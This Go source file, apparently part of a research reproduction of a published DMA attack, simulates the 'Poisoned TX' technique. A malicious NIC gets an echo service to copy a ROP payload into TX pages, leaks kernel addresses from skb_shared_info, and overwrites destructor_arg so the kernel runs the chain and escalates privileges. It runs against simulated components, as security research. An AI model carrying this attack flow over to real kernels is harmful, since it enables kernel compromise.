package attacks

import (
	"fmt"

	"dmafault/internal/core"
	"dmafault/internal/netstack"
)

// Poisoned TX (§5.4, Fig. 8). When the boot-determinism route is closed
// (small driver footprint), the attacker *manufactures* the KVA leak: it
// coerces a userspace service into echoing its payload, which the TCP
// sendmsg path places into frag pages whose struct page pointers — and hence
// KVAs — appear in the TX packet's skb_shared_info, readable by the NIC.

// RunPoisonedTX executes the full §5.4 flow against a system running an
// echo-style service.
func RunPoisonedTX(sys *core.System, nic *netstack.NIC) *Result {
	r := newResult("Poisoned TX")
	echo := netstack.NewEchoService(sys.Net, nic)

	// Step 0: break KASLR text (gadget addresses are needed to *author* the
	// payload before sending it).
	atk, _, err := breakKASLR(sys, nic, false)
	if err != nil {
		return r.fail(err)
	}
	r.logf("KASLR text base recovered from admin-buffer leak")

	// Step 1: send the malicious request. Its payload IS the weaponized
	// buffer: ubuf_info (callback→pivot) + ROP chain. The echo service
	// obligingly copies it into TX frag pages.
	payload, err := atk.PayloadBytes()
	if err != nil {
		return r.fail(err)
	}
	reqSlot := 0
	d := nic.RXRing()[reqSlot]
	if err := sys.Bus.Write(atk.Dev, d.IOVA, payload); err != nil {
		return r.fail(err)
	}
	if err := nic.ReceiveOn(reqSlot, uint32(len(payload)), netstack.ProtoUDP, 101); err != nil {
		return r.fail(err)
	}
	if echo.Echoed != 1 || nic.PendingTX() == 0 {
		return r.fail(fmt.Errorf("echo service did not transmit a reply"))
	}
	r.logf("payload echoed: TX sk_buff with frags mapped for the device")

	// Step 2: delay the TX completion (the device controls it) so the
	// poisoned buffer stays alive; the driver's watchdog allows ~5 s.
	txIdx := nic.PendingTX() - 1
	tx := nic.TXRing()[txIdx]
	r.logf("TX completion delayed (watchdog budget %v)", netstack.TXTimeout)

	// Step 3: read the TX shared info; the frag's struct page pointer and
	// the zerocopy destructor_arg pin vmemmap_base and page_offset_base,
	// and the frag translates to the payload's KVA.
	view, err := atk.ReadTXSharedInfo(tx.LinearVA, 128)
	if err != nil {
		return r.fail(err)
	}
	if len(view.Frags) == 0 {
		return r.fail(fmt.Errorf("echo reply carried no frags"))
	}
	ubufKVA, err := atk.FragKVA(view.Frags[0])
	if err != nil {
		return r.fail(err)
	}
	r.logf("TX shared info leak: frag struct page %#x → payload KVA %#x",
		view.Frags[0].PagePtr, uint64(ubufKVA))

	// Step 4: spoof a second RX packet and, in its processing window,
	// overwrite its shared info's destructor_arg with the payload KVA,
	// through whichever Fig. 7 path the driver/mode combination leaves open.
	// (The trigger is delivered as UDP; the echo service re-echoes four
	// harmless bytes.)
	path, err := triggerInjection(r, sys, atk, nic, ubufKVA, 102)
	if r.Success {
		r.logf("window path %v → trigger released → callback → pivot → ROP chain in echoed payload: escalated", path)
	} else {
		r.logf("attack failed (path %v, release error: %v)", path, err)
	}

	// Step 5: let the TX complete now that the chain has run.
	completeTX(r, nic, txIdx)
	return r
}

// completeTX signals the delayed TX completion the device held back and
// reaps it, noting a reap error in the trace.
func completeTX(r *Result, nic *netstack.NIC, txIdx int) {
	if err := nic.CompleteTX(txIdx); err == nil {
		if err := nic.ReapCompletions(); err != nil {
			r.logf("note: TX reap reported %v", err)
		}
	}
}
